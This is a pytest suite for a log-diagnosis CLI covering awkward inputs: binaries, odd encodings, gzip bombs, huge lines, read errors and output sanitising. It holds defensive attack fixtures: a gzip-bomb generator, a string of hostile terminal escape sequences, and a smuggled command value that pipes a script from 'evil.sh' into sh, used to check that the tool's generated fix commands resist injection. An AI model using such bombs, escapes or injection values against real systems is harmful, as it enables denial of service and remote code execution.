"""Every awkward thing a user can hand trt-why as a log: a one-line error (exit 2) or a correct report.

Never a traceback, never a hang (every CLI run has a hang guard). Through the CLI's `main(argv)` in
this process (`run_cli`: the same argument parsing, reading, exit codes and output as a user's run),
and through the API where the CLI adds nothing. The one test about what a fresh interpreter reads at
start-up (the limit variables) starts a real process (`trt_why`).
"""

from __future__ import annotations

import builtins
import codecs
import gzip
import io
import json
import os
import random
import struct
import zlib
from pathlib import Path

import pytest
from rel_helpers import (
    NOISE_LINE,
    OOM_ID,
    OOM_LINE,
    OOM_LINE_NO,
    OOM_LOG,
    assert_one_line_error,
    assert_report,
    run_cli,
    trt_why,
)

from troubleshooter import api
from troubleshooter.errors import InputError
from troubleshooter.reading import ingest


def _json(result) -> dict:  # type: ignore[no-untyped-def, type-arg]
    return json.loads(assert_report(result))


def _top(report: dict) -> tuple[str, int]:  # type: ignore[type-arg]
    top = report["diagnoses"][0]
    return top["id"], top["evidence"][0]["line"]


def _oom_found(result, line: int = OOM_LINE_NO) -> dict:  # type: ignore[no-untyped-def, type-arg]
    report = _json(result)
    assert result.returncode == 1
    assert _top(report) == (OOM_ID, line), report["diagnoses"][:1]
    return report


# -- files that are not logs at all ------------------------------------------------------------------

def test_empty_file(tmp_path: Path) -> None:
    path = tmp_path / "build.log"
    path.write_bytes(b"")
    assert_one_line_error(run_cli(str(path)), "empty")


def test_empty_stdin() -> None:
    assert_one_line_error(run_cli("-", stdin=b""), "empty")


def test_directory(tmp_path: Path) -> None:
    assert_one_line_error(run_cli(str(tmp_path)), "directory")


def test_missing_file(tmp_path: Path) -> None:
    assert_one_line_error(run_cli(str(tmp_path / "nope.log")), "no such file")


def test_path_too_long_or_with_nul() -> None:
    assert_one_line_error(run_cli("x" * 5000 + ".log"), "cannot read")
    with pytest.raises(InputError):
        api.diagnose_path("bad\x00name.log")


@pytest.mark.skipif(os.geteuid() == 0, reason="root reads any file; see the monkeypatched tests below")
def test_no_read_permission_real(tmp_path: Path) -> None:
    path = tmp_path / "build.log"
    path.write_text(OOM_LOG)
    path.chmod(0)
    assert_one_line_error(run_cli(str(path)), "permission denied")


@pytest.fixture
def unreadable_log(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A log that `open` refuses as the kernel would for a non-root user (the tests run as root)."""
    path = tmp_path / "build.log"
    path.write_text(OOM_LOG)
    real_open = builtins.open

    def denied(file, *args, **kwargs):  # type: ignore[no-untyped-def]
        if str(file) == str(path):
            raise PermissionError(13, "Permission denied", str(file))
        return real_open(file, *args, **kwargs)

    monkeypatch.setattr(builtins, "open", denied)
    return path


def test_no_read_permission_api(unreadable_log: Path) -> None:
    with pytest.raises(InputError, match="permission denied"):
        api.diagnose_path(unreadable_log)


def test_no_read_permission_cli(unreadable_log: Path) -> None:
    assert_one_line_error(run_cli(str(unreadable_log)), "permission denied")


def _png() -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    raw = b"".join(b"\x00" + bytes(range(16)) * 3 for _ in range(16))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 16, 16, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(raw)) + chunk(b"IEND", b""))


def _onnx_model() -> bytes:
    onnx = pytest.importorskip("onnx")
    from onnx import TensorProto, helper, numpy_helper

    np = pytest.importorskip("numpy")
    weight = numpy_helper.from_array(np.random.default_rng(0).standard_normal((8, 3, 3, 3)).astype("float32"), "w")
    node = helper.make_node("Conv", ["x", "w"], ["y"], name="/model/conv/Conv")
    graph = helper.make_graph([node], "g", [helper.make_tensor_value_info("x", TensorProto.FLOAT, [1, 3, 8, 8])],
                              [helper.make_tensor_value_info("y", TensorProto.FLOAT, None)], [weight])
    return bytes(onnx.helper.make_model(graph, producer_name="pytorch").SerializeToString())


def _tiny_onnx_model() -> bytes:
    """Mostly names: a model whose bytes are nearly all printable."""
    onnx = pytest.importorskip("onnx")
    from onnx import TensorProto, helper

    nodes = [helper.make_node("Relu", [f"/model/layer{i}/in"], [f"/model/layer{i}/out"], name=f"/model/layer{i}/Relu")
             for i in range(30)]
    graph = helper.make_graph(nodes, "a_graph", [helper.make_tensor_value_info("/model/layer0/in", TensorProto.FLOAT, [1])],
                              [helper.make_tensor_value_info("/model/layer29/out", TensorProto.FLOAT, [1])])
    return bytes(onnx.helper.make_model(graph).SerializeToString())


BINARIES = {
    "random.bin": lambda: random.Random(1).randbytes(200_000),
    "random.log": lambda: random.Random(2).randbytes(70_000),
    "model.onnx": _onnx_model,
    "model-named-as.log": _onnx_model,
    "tiny.onnx": _tiny_onnx_model,
    "tiny-named-as.txt": _tiny_onnx_model,
    "model.engine": lambda: b"ftrt" + struct.pack("<I", 239) + random.Random(3).randbytes(50_000),
    "model-v10.plan": lambda: random.Random(4).randbytes(16) + b"\x00" * 64 + random.Random(5).randbytes(50_000),
    "screenshot.png": _png,
    "weights.pt": lambda: b"PK\x03\x04" + random.Random(6).randbytes(5000),
    "a.out": lambda: b"\x7fELF\x02\x01\x01" + b"\x00" * 9 + random.Random(7).randbytes(5000),
}


@pytest.mark.parametrize("name", list(BINARIES))
def test_binary_file_is_refused(name: str, tmp_path: Path) -> None:
    path = tmp_path / name
    path.write_bytes(BINARIES[name]())
    assert_one_line_error(run_cli(str(path)), "not a")


@pytest.mark.parametrize("name", ["random.bin", "model.onnx", "screenshot.png"])
def test_binary_stdin_is_refused(name: str) -> None:
    assert_one_line_error(run_cli("-", stdin=BINARIES[name]()), "not a")


def test_onnx_is_pointed_at_lint(tmp_path: Path) -> None:
    path = tmp_path / "model.onnx"
    path.write_bytes(_onnx_model())
    assert_one_line_error(run_cli(str(path)), "ONNX", "trt-why lint")


# -- text with awkward bytes -------------------------------------------------------------------------

def test_nul_bytes_inside_lines(tmp_path: Path) -> None:
    path = tmp_path / "build.log"
    noisy = "".join(f"[I] step\x00{i}\x00done\n" for i in range(200))
    path.write_bytes((noisy + OOM_LOG).encode())
    _oom_found(run_cli(str(path), "--format", "json"), 200 + OOM_LINE_NO)


def test_nul_block_at_the_start_is_skipped(tmp_path: Path) -> None:
    """copytruncate / a crash while writing leaves a hole of NULs before the text."""
    path = tmp_path / "build.log"
    path.write_bytes(b"\x00" * 3_000_000 + OOM_LOG.encode())
    report = _oom_found(run_cli(str(path), "--format", "json"))
    assert any("NUL" in note for note in report["notes"])


def test_only_nul_bytes(tmp_path: Path) -> None:
    path = tmp_path / "zeros.log"
    with open(path, "wb") as fh:
        fh.truncate(64 * 1024 * 1024)  # sparse: costs no disk
    assert_one_line_error(run_cli(str(path)), "NUL")


def test_invalid_utf8_in_the_middle(tmp_path: Path) -> None:
    path = tmp_path / "build.log"
    bad = b"[I] caf\xe9 \xff\xfe\xc3( half \xe2\x82 sequences \xed\xa0\x80 surrogate\n"
    path.write_bytes(NOISE_LINE.encode() * 50 + bad * 50 + OOM_LOG.encode() + bad)
    _oom_found(run_cli(str(path), "--format", "json"), 100 + OOM_LINE_NO)


def test_latin1_log(tmp_path: Path) -> None:
    path = tmp_path / "build.log"
    path.write_bytes(("[I] Gerät: Überprüfung läuft\n" + OOM_LOG).encode("latin-1"))
    _oom_found(run_cli(str(path), "--format", "json"), 1 + OOM_LINE_NO)


@pytest.mark.parametrize("encoding, bom", [
    pytest.param("utf-16", b"", id="utf-16"),  # Python's utf-16 writes a BOM
    pytest.param("utf-16-le", codecs.BOM_UTF16_LE, id="utf-16-le-bom"),
    pytest.param("utf-16-be", codecs.BOM_UTF16_BE, id="utf-16-be-bom"),
    pytest.param("utf-16-le", b"", id="utf-16-le-no-bom"),
    pytest.param("utf-16-be", b"", id="utf-16-be-no-bom"),
    pytest.param("utf-8", codecs.BOM_UTF8, id="utf-8-bom"),
])
def test_utf16_and_bom(encoding: str, bom: bytes, tmp_path: Path) -> None:
    """PowerShell's `>` writes UTF-16 LE with a BOM; some tools write it without."""
    path = tmp_path / "build.log"
    text = "[I] Gerät ✓ 设备\r\n" + OOM_LOG.replace("\n", "\r\n")
    path.write_bytes(bom + text.encode(encoding))
    report = _oom_found(run_cli(str(path), "--format", "json"), 1 + OOM_LINE_NO)
    if encoding.startswith("utf-16"):
        assert report["source"]["encoding"].startswith("utf-16")
    stdin = run_cli("-", "--format", "json", stdin=bom + text.encode(encoding))
    _oom_found(stdin, 1 + OOM_LINE_NO)


def test_ansi_escape_flood(tmp_path: Path) -> None:
    path = tmp_path / "build.log"
    flood = b"\x1b[31m\x1b[1;32m\x1b[0m\x1b]0;title\x07\x1b[2K\x1b[1A\x1b[?25l" * 200_000 + b"\n"
    colored = b"".join(b"\x1b[1;31m" * 40 + line.encode() + b"\x1b[0m\n" for line in OOM_LOG.splitlines())
    path.write_bytes(flood + colored)
    report = _oom_found(run_cli(str(path), "--format", "json"), 1 + OOM_LINE_NO)
    assert "\x1b" not in json.dumps(report["diagnoses"][0]["evidence"])


def test_only_blank_lines(tmp_path: Path) -> None:
    path = tmp_path / "build.log"
    path.write_bytes(b"\n \n\t\n\r\n   \r\n" * 10_000)
    assert_one_line_error(run_cli(str(path)), "blank")


def test_no_trailing_newline_and_cr_only_progress(tmp_path: Path) -> None:
    path = tmp_path / "build.log"
    path.write_bytes(b"[I] 10%\r[I] 50%\r[I] 100%\n" + OOM_LOG.rstrip("\n").encode())
    _oom_found(run_cli(str(path), "--format", "json"), 1 + OOM_LINE_NO)


# -- compressed input --------------------------------------------------------------------------------

def _big_log(noise_lines: int = 3000) -> bytes:
    return (NOISE_LINE * noise_lines + OOM_LOG).encode()


def test_gzip(tmp_path: Path) -> None:
    path = tmp_path / "build.log.gz"
    path.write_bytes(gzip.compress(_big_log()))
    report = _oom_found(run_cli(str(path), "--format", "json"), 3000 + OOM_LINE_NO)
    assert report["source"]["truncated"] is False
    assert _oom_found(run_cli("-", "--format", "json", stdin=gzip.compress(_big_log())), 3000 + OOM_LINE_NO)


def test_concatenated_gzip_members(tmp_path: Path) -> None:
    path = tmp_path / "build.log.gz"
    path.write_bytes(gzip.compress((NOISE_LINE * 10).encode()) + gzip.compress(OOM_LOG.encode()))
    _oom_found(run_cli(str(path), "--format", "json"), 10 + OOM_LINE_NO)


def test_truncated_gzip_keeps_what_was_read(tmp_path: Path) -> None:
    data = gzip.compress(OOM_LOG.encode() + _big_log(20_000))
    path = tmp_path / "build.log.gz"
    path.write_bytes(data[: len(data) // 2])
    report = _oom_found(run_cli(str(path), "--format", "json"))
    assert report["source"]["truncated"] is True
    assert any("truncated" in note for note in report["notes"])


def test_tiny_truncated_gzip(tmp_path: Path) -> None:
    """Cut inside the first block: nothing decodes at all."""
    path = tmp_path / "build.log.gz"
    path.write_bytes(gzip.compress(_big_log())[:30])
    assert_one_line_error(run_cli(str(path)), "gzip")


def test_damaged_gzip(tmp_path: Path) -> None:
    data = bytearray(gzip.compress(OOM_LOG.encode() + _big_log(20_000)))
    for i in range(len(data) // 2, len(data) // 2 + 64):
        data[i] ^= 0x5A
    path = tmp_path / "build.log.gz"
    path.write_bytes(bytes(data))
    report = _oom_found(run_cli(str(path), "--format", "json"))
    assert report["source"]["truncated"] is True


def _bomb(path: Path, content: bytes, total: int) -> None:
    """A gzip file of `content` repeated up to `total` bytes, built in a moment: with a full flush after
    each block, every block compresses to the same bytes, so one compressed block is written N times."""
    comp = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = comp.compress(content) + comp.flush(zlib.Z_FULL_FLUSH)
    count = total // len(content)
    crc = 0
    for _ in range(count):
        crc = zlib.crc32(content, crc)
    with open(path, "wb") as fh:
        fh.write(b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff")  # gzip header: deflate, no name, max compression
        for _ in range(count):
            fh.write(block)
        fh.write(comp.flush(zlib.Z_FINISH))
        fh.write(struct.pack("<II", crc, (count * len(content)) & 0xFFFFFFFF))


def test_gzip_bomb_is_stopped_and_said(tmp_path: Path) -> None:
    """~1 GB of one long line in a ~1 MB file: decompression stops past the ratio limit, the report says so."""
    path = tmp_path / "bomb.log.gz"
    _bomb(path, b"A" * (1 << 20), 1 << 30)
    assert path.stat().st_size < 4 << 20
    report = _json(run_cli(str(path), "--format", "json", timeout=120))
    assert report["source"]["truncated"] is True
    assert any("gzip bomb" in note and "TRT_WHY_MAX_GZIP_RATIO" in note for note in report["notes"]), report["notes"]
    assert report["source"]["bytes"] < 300 << 20


def test_gzip_bomb_of_log_lines_stops_reading(tmp_path: Path) -> None:
    """Realistic lines: read the opened stream to its end (no scan) and check where it stopped."""
    path = tmp_path / "bomb.log.gz"
    _bomb(path, NOISE_LINE.encode() * 4096, 1 << 30)
    opened = ingest.open_path(path)
    total = 0
    while chunk := opened.stream.read(8 << 20):
        total += len(chunk)
    opened.stream.close()
    assert opened.truncated and "gzip bomb" in opened.stop_reason
    assert ingest.GZIP_RATIO_FLOOR < total < 512 << 20


def test_gzip_bomb_of_zeros(tmp_path: Path) -> None:
    path = tmp_path / "zeros.gz"
    _bomb(path, b"\x00" * (1 << 20), 1 << 30)
    assert_one_line_error(run_cli(str(path)), "gzip")


def test_gzip_ratio_can_be_raised(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """TRT_WHY_MAX_GZIP_RATIO=1000000 (read at start-up: see test_limit_variables_are_read_at_start_up)."""
    path = tmp_path / "bomb.log.gz"
    _bomb(path, b"A" * (1 << 20), 96 << 20)
    monkeypatch.setattr(ingest, "MAX_GZIP_RATIO", 1_000_000)
    report = _json(run_cli(str(path), "--format", "json"))
    assert report["source"]["truncated"] is False
    assert report["source"]["bytes"] == 96 << 20


# -- size ---------------------------------------------------------------------------------------------

def test_max_bytes_limit_stops_reading_and_says_so(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """TRT_WHY_MAX_BYTES=1 MiB (read at start-up: see test_limit_variables_are_read_at_start_up)."""
    path = tmp_path / "build.log"
    path.write_bytes(OOM_LOG.encode() + NOISE_LINE.encode() * 40_000)
    monkeypatch.setattr(ingest, "MAX_INPUT_BYTES", 1 << 20)
    report = _oom_found(run_cli(str(path), "--format", "json"))
    assert report["source"]["truncated"] is True
    assert report["source"]["bytes"] <= 1 << 20
    assert any("TRT_WHY_MAX_BYTES" in note for note in report["notes"])


STARTUP_LIMITS = (
    "import json\n"
    "from troubleshooter import api\n"
    "from troubleshooter.reading import ingest\n"
    "matcher = api.get_engine().matcher\n"
    "print(json.dumps([ingest.MAX_INPUT_BYTES, ingest.MAX_GZIP_RATIO, api._MATCH_TIMEOUT, matcher.match_timeout]))\n"
)


def test_limit_variables_are_read_at_start_up(tmp_path: Path) -> None:
    """A fresh interpreter (the limits are read once, at import): good values are taken, and bad values
    leave the defaults without breaking a run. The in-process tests above patch the same constants."""
    import subprocess
    import sys

    from rel_helpers import ROOT, child_env

    def limits(env: dict[str, str]) -> list[float]:
        result = subprocess.run([sys.executable, "-c", STARTUP_LIMITS], capture_output=True, timeout=60,
                                env=child_env(env), cwd=str(ROOT), stdin=subprocess.DEVNULL)
        assert result.returncode == 0 and "Traceback" not in result.stderr.decode(), result.stderr.decode()
        return json.loads(result.stdout)  # type: ignore[no-any-return]

    good = {"TRT_WHY_MAX_BYTES": str(1 << 20), "TRT_WHY_MAX_GZIP_RATIO": "1000000", "TRT_WHY_MATCH_TIMEOUT": "0.002"}
    assert limits(good) == [1 << 20, 1_000_000, 0.002, 0.002]
    # Bad values are ignored: the defaults stay, and a real run still diagnoses the log.
    bad = {"TRT_WHY_MAX_BYTES": "lots", "TRT_WHY_MAX_GZIP_RATIO": "-3", "TRT_WHY_MATCH_TIMEOUT": "soon"}
    defaults = limits({name: "" for name in bad})
    assert limits(bad) == defaults and defaults != limits(good)
    path = tmp_path / "build.log"
    path.write_text(OOM_LOG)
    _oom_found(trt_why(str(path), "--format", "json", env=bad))


def test_single_100mb_line(tmp_path: Path) -> None:
    path = tmp_path / "build.log"
    with open(path, "wb") as fh:
        fh.write(b"[E] [TRT] " + b"A" * 100_000_000 + b"\n")
        fh.write(OOM_LOG.encode())
    report = _oom_found(run_cli(str(path), "--format", "json", timeout=120), 1 + OOM_LINE_NO)
    assert report["source"]["lines"] == 1 + OOM_LOG.count("\n")


def test_100mb_line_with_the_error_at_its_start(tmp_path: Path) -> None:
    path = tmp_path / "build.log"
    with open(path, "wb") as fh:
        fh.write(OOM_LINE.encode() + b" " + b"x" * 100_000_000 + b"\n" + NOISE_LINE.encode())
    report = _json(run_cli(str(path), "--format", "json", timeout=120))
    assert _top(report) == (OOM_ID, 1)
    assert report["source"]["lines"] == 2


@pytest.mark.slow
def test_ten_million_short_lines(tmp_path: Path) -> None:
    path = tmp_path / "build.log"
    with open(path, "wb") as fh:
        block = b"x\n" * 1_000_000
        fh.writelines(block for _ in range(10))
        fh.write(OOM_LOG.encode())
    report = _oom_found(run_cli(str(path), "--format", "json", timeout=600), 10_000_000 + OOM_LINE_NO)
    assert report["source"]["lines"] == 10_000_000 + OOM_LOG.count("\n")


def test_sparse_1gb_file_is_refused_quickly(tmp_path: Path) -> None:
    path = tmp_path / "huge.log"
    with open(path, "wb") as fh:
        fh.truncate(1 << 30)
    assert_one_line_error(run_cli(str(path), timeout=120), "NUL")


# -- reading fails half-way -----------------------------------------------------------------------------

class _FailingStream(io.RawIOBase):
    """Gives some log, then the read fails as a disk or a socket would."""

    def __init__(self, data: bytes, error: OSError) -> None:
        self.data = data
        self.error = error

    def readable(self) -> bool:
        return True

    def readinto(self, b) -> int:  # type: ignore[no-untyped-def]
        if not self.data:
            raise self.error
        n = min(len(b), len(self.data), 4096)
        b[:n] = self.data[:n]
        self.data = self.data[n:]
        return n


@pytest.mark.parametrize("error", [OSError(5, "Input/output error"), ConnectionResetError(104, "Connection reset")],
                         ids=["EIO", "ECONNRESET"])
def test_read_error_mid_stream_reports_what_was_read(error: OSError, engine) -> None:  # type: ignore[no-untyped-def]
    report = api.diagnose_stream(_FailingStream(_big_log(2000), error), engine=engine)  # type: ignore[arg-type]
    assert report.source.truncated
    assert any("reading failed" in note for note in report.notes)
    assert report.top is not None and report.top.id == OOM_ID


def test_read_error_before_any_text(engine) -> None:  # type: ignore[no-untyped-def]
    with pytest.raises(InputError, match="reading failed"):
        api.diagnose_stream(_FailingStream(b"", OSError(5, "Input/output error")), engine=engine)  # type: ignore[arg-type]


@pytest.mark.parametrize("data", [b"", "", "   \n\t\n", b"\x00" * 10, b"\x1f\x8b", b"\xff\xfe", b"\xef\xbb\xbf", "\ud800 lone"],
                         ids=["empty-bytes", "empty-str", "blank-str", "nul-bytes", "gzip-magic-only", "utf16-bom-only",
                              "utf8-bom-only", "lone-surrogate"])
def test_api_degenerate_inputs(data: bytes | str, engine) -> None:  # type: ignore[no-untyped-def]
    try:
        report = api.diagnose(data, engine=engine)
    except InputError as exc:
        assert "\n" not in str(exc)
    else:
        assert report.source.lines >= 1


def test_api_rejects_non_text(engine) -> None:  # type: ignore[no-untyped-def]
    with pytest.raises(InputError):
        api.diagnose(12345, engine=engine)  # type: ignore[arg-type]


# -- terminal escape injection -------------------------------------------------------------------------------

HOSTILE_TAIL = ("\x1bP1$r0m\x1b\\ \x1b]8;;http://x\x07link\x1b]8;;\x07 \u009b31m \x07bell \x1b[2J\x1b[H "
                "\x1b]52;c;ZXZpbA==\x07 \x08\x08bs \x1bc reset \x1b(0 g0")
CONTROL = ("\x1b", "\x07", "\x08", "\u009b")


def test_text_report_carries_no_control_characters(tmp_path: Path) -> None:
    path = tmp_path / "build.log"
    path.write_text(OOM_LINE + " " + HOSTILE_TAIL + "\n", encoding="utf-8")
    out = assert_report(run_cli("-v", "--no-color", str(path)), (1,))
    assert not [c for c in CONTROL if c in out]


@pytest.mark.parametrize("fmt", [("--format", "markdown"), ("--chat", "slack")], ids=["markdown", "slack"])
def test_markdown_report_carries_no_control_characters(fmt: tuple[str, str], tmp_path: Path) -> None:
    path = tmp_path / "build.log"
    path.write_text(OOM_LINE + " " + HOSTILE_TAIL + "\n", encoding="utf-8")
    out = assert_report(run_cli(*fmt, str(path)), (1,))
    assert not [c for c in CONTROL if c in out]


# -- values from the log inside fix commands --------------------------------------------------------------

def test_captured_values_cannot_break_out_of_a_bash_fix_command(engine) -> None:  # type: ignore[no-untyped-def]
    import shlex

    node = "/x;curl${IFS}evil.sh|sh;#/act/Sigmoid"
    log = ("[11/02/2023-10:13:05] [E] [TRT] 10: Could not find any implementation for node /model.2/cv1/conv/Conv"
           f" + PWN(PWN({node}), /model.2/cv1/act/Mul).\n")
    report = api.diagnose(log, trt_version="8.6.1", engine=engine)
    commands = [step.command.code for d in report.diagnoses for fix in d.fixes for step in fix.detail
                if step.command and step.command.lang == "bash" and "Sigmoid" in step.command.code]
    assert commands, "the entry no longer fills the node into a command: rewrite this test"
    for code in commands:
        lexer = shlex.shlex(code, posix=True, punctuation_chars=True)  # unquoted ; | & split off as operators
        lexer.whitespace_split = True
        words = list(lexer)
        assert any(node in word for word in words), (code, words)
        assert not [w for w in words if w in (";", "|", "&&", "||", "&")], (code, words)
